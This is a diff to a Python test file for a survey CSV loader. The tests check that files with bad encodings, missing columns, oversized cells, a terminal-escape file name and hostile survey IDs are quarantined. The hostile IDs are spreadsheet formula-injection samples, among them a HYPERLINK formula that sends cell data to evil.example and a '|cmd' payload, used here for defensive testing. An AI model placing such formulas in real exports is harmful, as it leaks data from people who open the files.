@@ -310,11 +310,114 @@ def test_a_wrong_password_is_not_shown(settings, database_url):
     assert "hunter2-SECRET" not in str(excinfo.value)
 
 
-def test_a_csv_without_the_columns_fails_naming_the_file(settings, tmp_path):
+HEADER = "user_ref,group_ref,survey_id,submitted_at,satisfaction,flow_state,blockers_text\n"
+GOOD_ROW = "user:default/ann,team-a,q1-2025,2025-03-03T09:00:00Z,4,4,\n"
+
+
+def _quarantine(warehouse) -> list[tuple[str, str]]:
+    with warehouse.connection() as conn:
+        return conn.execute(
+            "select record_key, reason from dora_raw.quarantine order by 1"
+        ).fetchall()
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "reason"),
+    [
+        (
+            "wrong.csv",
+            b"name,score\njane,4\n",
+            "file: wrong.csv lacks the column(s) user_ref, group_ref, survey_id, submitted_at, satisfaction, "
+            "flow_state; none of its rows was loaded",
+        ),
+        (
+            "two-boms.csv",
+            b"\xef\xbb\xbf\xef\xbb\xbf" + HEADER.encode() + GOOD_ROW.encode(),
+            "file: two-boms.csv starts with two UTF-8 byte-order marks (BOM); save it once, as UTF-8; "
+            "none of its rows was loaded",
+        ),
+        (
+            "latin1.csv",
+            HEADER.encode() + b"user:default/a,team-a,q1,2025-03-03T09:00:00Z,4,4,caf\xe9\n",
+            "file: latin1.csv is not UTF-8: byte 0xe9 at offset 133 (line 2); export it as UTF-8; "
+            "none of its rows was loaded",
+        ),
+        (
+            "utf16.csv",
+            (HEADER + GOOD_ROW).encode("utf-16"),
+            "file: utf16.csv is UTF-16 (it starts with a UTF-16 byte-order mark); export it as UTF-8; "
+            "none of its rows was loaded",
+        ),
+        (
+            "\x1b[2Jnames.csv",
+            b"name\nx\n",
+            "file: \\x1b[2Jnames.csv lacks the column(s) user_ref, group_ref, survey_id, submitted_at, "
+            "satisfaction, flow_state; none of its rows was loaded",
+        ),
+    ],
+)
+def test_a_bad_csv_file_is_quarantined_naming_its_problem_and_the_other_files_load(
+    settings, tmp_path, name, content, reason
+):
     folder = tmp_path / "csv"
-    _csv(folder, "wrong.csv", "name,score\njane,4\n")
+    folder.mkdir()
+    (folder / name).write_bytes(content)
+    (folder / "good.csv").write_text(HEADER + GOOD_ROW, encoding="utf-8")
     warehouse = Warehouse(settings_with(settings, SURVEY_CSV_DIR=str(folder)))
-    with pytest.raises(
-        SourceError, match=r"wrong.csv lacks the column\(s\) user_ref, group_ref, survey_id"
-    ):
-        extract_partition(warehouse, get_source("survey"), DAY)
+    result = extract_partition(warehouse, get_source("survey"), DAY)
+    assert result.rows == {"survey_responses": 1} and result.quarantined == 1
+    assert [r for _, r in _quarantine(warehouse)] == [reason]
+
+
+def test_one_huge_cell_quarantines_its_row_only(settings, tmp_path):
+    folder = tmp_path / "csv"
+    huge = "x" * 200_000
+    _csv(
+        folder,
+        "export.csv",
+        HEADER + GOOD_ROW + f"user:default/bob,team-a,q1-2025,2025-03-03T10:00:00Z,4,4,{huge}\n"
+        f"user:default/cy,team-a,{huge},2025-03-03T11:00:00Z,4,4,\n",
+    )
+    warehouse = Warehouse(settings_with(settings, SURVEY_CSV_DIR=str(folder)))
+    result = extract_partition(warehouse, get_source("survey"), DAY)
+    assert result.rows == {"survey_responses": 1} and result.quarantined == 2
+    assert sorted(r for _, r in _quarantine(warehouse)) == [
+        "blockers_text: is longer than 10000 characters",
+        "survey_id: is longer than 200 characters",
+    ]
+
+
+def test_survey_ids_that_a_spreadsheet_would_run_are_quarantined(settings, tmp_path):
+    folder = tmp_path / "csv"
+    hostile = [
+        '"=HYPERLINK(""https://evil.example/?leak=""&A1,""open"")"',
+        "+SUM(1)|cmd",
+        "@SUM(A1)",
+        "-1+1",
+        "q1\u202e2025",
+    ]
+    _csv(
+        folder,
+        "export.csv",
+        HEADER
+        + GOOD_ROW
+        + "".join(
+            f"user:default/u{i},team-a,{sid},2025-03-03T1{i}:00:00Z,4,4,\n"
+            for i, sid in enumerate(hostile)
+        ),
+    )
+    warehouse = Warehouse(settings_with(settings, SURVEY_CSV_DIR=str(folder)))
+    result = extract_partition(warehouse, get_source("survey"), DAY)
+    assert result.rows == {"survey_responses": 1} and result.quarantined == len(hostile)
+    reasons = sorted(r for _, r in _quarantine(warehouse))
+    assert [r.split(",")[0] for r in reasons if "formula" in r] == [
+        "survey_id: starts with '+'",
+        "survey_id: starts with '-'",
+        "survey_id: starts with '='",
+        "survey_id: starts with '@'",
+    ]
+    assert any(r.startswith("survey_id: is not a name") and "\\u202e" in r for r in reasons)
+    with warehouse.connection() as conn:
+        assert conn.execute(
+            "select array_agg(distinct survey_id) from dora_raw.survey_responses"
+        ).fetchone()[0] == ["q1-2025"]
